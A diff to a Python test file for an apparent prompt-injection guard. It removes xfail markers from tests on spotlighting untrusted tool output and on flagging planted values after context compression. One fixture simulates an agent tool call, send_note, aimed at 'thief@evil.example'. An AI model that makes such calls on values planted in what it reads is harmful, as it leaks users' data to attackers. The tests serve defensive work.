@@ -588,11 +588,6 @@ async def test_a_tagged_undeclared_read_has_its_planted_values_flagged() -> None
     assert [f["arg"] for f in requested(result)["flagged"]] == ["to"]
 
 
-@xfail(
-    "GuardPolicy(tool='tag'): spotlight_messages wraps only tools in svc.untrusted_tools "
-    "(declared untrusted_output), so flagged text of an undeclared read tool reaches the "
-    "model with the detector's note but outside the spotlight markers"
-)
 async def test_a_tagged_undeclared_read_is_spotlighted() -> None:
     _, model = await undeclared("tag")
     (seen,) = model.requests[1].messages[-1].results
@@ -666,11 +661,6 @@ async def test_a_planted_value_is_still_flagged_after_compression() -> None:
     assert [f["arg"] for f in requested(result)["flagged"]] == ["to"]
 
 
-@xfail(
-    "compression drops the user's earlier messages from the trusted sources (Sources.of skips "
-    "the summary message), so a value the user typed before the untrusted copy is flagged "
-    "after compression with a warning that says, falsely, 'the user never gave it'"
-)
 async def test_a_value_the_user_gave_is_not_flagged_after_compression() -> None:
     result, _ = await compressed_session(
         call("send_note", to="thief@evil.example", body="list"),
